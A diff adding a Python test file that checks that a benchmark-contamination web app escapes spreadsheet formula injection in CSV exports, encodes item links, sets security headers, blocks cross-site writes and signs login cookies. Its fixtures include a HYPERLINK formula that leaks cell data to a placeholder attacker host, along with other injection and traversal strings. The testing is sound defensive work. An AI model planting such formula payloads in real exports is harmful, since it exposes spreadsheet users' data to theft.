@@ -1,0 +1,99 @@
+"""What leaves the server is safe to open: CSV exports a spreadsheet will not run, item links
+that go where they say, security headers on every response, no cross-site writes, a login
+cookie that is not the key."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import time
+from collections.abc import Iterator
+
+import pytest
+from conftest import IndexCorpus
+from fastapi.testclient import TestClient
+
+from app.api.main import create_app
+from app.settings import Settings
+
+Q = "Which river flows through the ancient city of Baghdad and joins the Euphrates near Basra?"
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "a?b#c%d/../e"]
+
+
+@pytest.fixture
+def client(migrated_url: str, index_corpus: IndexCorpus) -> Iterator[TestClient]:
+    index_corpus(migrated_url, [{"id": "quiz", "text": f"Quiz night! {Q} A. Nile B. Tigris"}])
+    with TestClient(create_app(Settings(database_url=migrated_url))) as c:
+        yield c
+
+
+def _report(c: TestClient) -> str:
+    rows = "".join(json.dumps({"id": i, "question": Q, "answer": "Tigris"}) + "\n" for i in HOSTILE_IDS)
+    rid: str = c.post("/api/v1/benchmarks", files={"file": ("b.jsonl", rows.encode())}).json()["id"]
+    for _ in range(200):
+        if c.get(f"/api/v1/reports/{rid}").json()["status"] == "done":
+            return rid
+        time.sleep(0.05)
+    raise AssertionError("report did not finish")
+
+
+def test_csv_export_cannot_run_formulas_and_item_links_are_encoded(client: TestClient) -> None:
+    rid = _report(client)
+    text = client.get(f"/api/v1/reports/{rid}/export", params={"format": "csv"}).text
+    ids = [row[0] for row in csv.reader(io.StringIO(text))][1:]
+    assert sorted(ids) == sorted(("'" + i if i[0] in "=+-@\t" else i) for i in HOSTILE_IDS)
+    assert all(not i.startswith(("=", "+", "-", "@", "\t")) for i in ids)
+    page = client.get("/items", params={"report": rid, "status": ["contaminated", "suspicious", "clean"]}).text
+    assert f'href="/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe"' in page
+    assert client.get(f"/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe").status_code == 200
+
+
+def test_every_response_carries_the_security_headers(client: TestClient) -> None:
+    responses = [
+        client.get("/"),
+        client.get("/api/v1/reports"),
+        client.get("/static/app.css"),
+        client.get("/docs"),
+        client.get("/reports/nope"),
+        client.post("/api/v1/check", content=b"x" * (8 << 20), headers={"content-type": "application/json"}),
+    ]
+    for r in responses:
+        csp = r.headers["content-security-policy"]
+        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "http" not in csp, r.url
+        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["x-frame-options"] == "DENY"
+        assert r.headers["referrer-policy"] == "same-origin"
+    assert "<script>" not in client.get("/docs").text  # Swagger UI starts from /docs/init.js
+    assert "SwaggerUIBundle" in client.get("/docs/init.js").text
+    assert client.get("/redoc").status_code == 404  # it would load from a CDN
+
+
+def test_cross_site_writes_are_refused(client: TestClient) -> None:
+    files = {"file": ("b.jsonl", (json.dumps({"id": "x", "question": Q}) + "\n").encode())}
+    for headers in ({"origin": "https://evil.example"}, {"origin": "null"}, {"referer": "http://evil.example/x"}):
+        r = client.post("/api/v1/benchmarks", files=files, headers=headers)
+        assert r.status_code == 403 and "cross-site" in r.json()["error"], headers
+        assert client.post("/upload", files=files, headers=headers, follow_redirects=False).status_code == 403
+    assert client.get("/api/v1/reports").json()["total"] == 0
+    same = client.post("/api/v1/benchmarks", files=files, headers={"origin": "http://testserver"})
+    assert same.status_code == 202  # this server's own pages, and clients that send no Origin
+    rid = same.json()["id"]
+    assert client.delete(f"/api/v1/reports/{rid}", headers={"origin": "https://evil.example"}).status_code == 403
+    assert client.get("/", headers={"origin": "https://evil.example"}).status_code == 200  # reads are not writes
+
+
+def test_login_cookie_is_a_signed_token_not_the_key(migrated_url: str) -> None:
+    settings = Settings(database_url=migrated_url, api_keys="s3cret-key")
+    with TestClient(create_app(settings), base_url="https://testserver") as c:
+        r = c.post("/login", data={"key": "s3cret-key", "next": "/"}, follow_redirects=False)
+        assert r.status_code == 303
+        cookie = r.headers["set-cookie"]
+        assert "s3cret-key" not in cookie and "HttpOnly" in cookie and "Secure" in cookie
+        assert "samesite=lax" in cookie.lower()
+        assert c.get("/", follow_redirects=False).status_code == 200
+        c.cookies.clear()
+        c.cookies.set("contam_session", "s3cret-key")  # the key itself is no session
+        assert c.get("/", follow_redirects=False).status_code == 303
+    with TestClient(create_app(settings)) as plain:  # over plain HTTP the cookie cannot be Secure
+        cookie = plain.post("/login", data={"key": "s3cret-key"}, follow_redirects=False).headers["set-cookie"]
+        assert "Secure" not in cookie
